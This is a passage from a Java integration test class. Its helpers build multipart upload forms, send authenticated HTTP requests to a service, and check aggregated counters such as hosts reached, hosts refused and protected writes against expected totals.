        }
        for (String c : List.of("events_by_category", "hosts_reached", "hosts_refused", "protected_writes")) {
            Map<String, Long> got = new TreeMap<>();
            front.path(c).properties().forEach(e -> got.put(e.getKey(), e.getValue().asLong()));
            assertThat(got).as(c).isEqualTo(sums.getOrDefault(c, Map.of()));
        }
        long frontRecords = 0;
        for (JsonNode v : front.path("versions")) frontRecords += v.path("records").asLong();
        assertThat(frontRecords).as("records of the passport's versions").isEqualTo(records);
        assertThat(front.path("kills")).hasSize(kills);
    }

    private static String node(String id) {
        return id.substring(0, id.indexOf('.'));
    }

    private static JsonNode success(Answer a) {
        assertThat(a.status()).as(a.raw().body()).isEqualTo(200);
        assertThat(a.body().path("status").asText()).as(a.raw().body()).isEqualTo("Success");
        return a.body().path("result");
    }

    /** A multipart form: {@code before} fields, the file part, {@code after} fields. */
    private static byte[] form(String boundary, List<String> before, byte[] file, List<String> after) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < before.size(); i += 2) field(out, boundary, before.get(i), before.get(i + 1));
        out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"data.bin\"\r\n"
                + "Content-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        out.writeBytes(file);
        out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < after.size(); i += 2) field(out, boundary, after.get(i), after.get(i + 1));
        out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static void field(ByteArrayOutputStream out, String boundary, String name, String value) {
        out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n")
                .getBytes(StandardCharsets.UTF_8));
    }

    private static Answer upload(String boundary, List<String> before, byte[] file, List<String> after) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(front + ROCK + "/upload")).header("X-API-Key", ENV)
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(form(boundary, before, file, after))));
    }

    private static Answer rock(String method, String path, String header, String value, String body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(front + ROCK + path)).header(header, value);
        if (body == null) b.GET();
        else b.header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(body));
        return send(b);
    }

    private static Answer post(String path, String token, String body) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(front + path)).header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    private static Answer get(String path, String token) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(front + path)).header("Authorization", "Bearer " + token).GET());
    }

    private static Answer send(HttpRequest.Builder b) throws IOException, InterruptedException {
        HttpResponse<String> r = HTTP.send(b.timeout(Duration.ofSeconds(180)).build(), HttpResponse.BodyHandlers.ofString());
        JsonNode body;
        try {
            body = JSON.readTree(r.body());
        } catch (IOException e) {
            body = JSON.missingNode();
        }
        return new Answer(r.statusCode(), body == null ? JSON.missingNode() : body, r);
    }
}
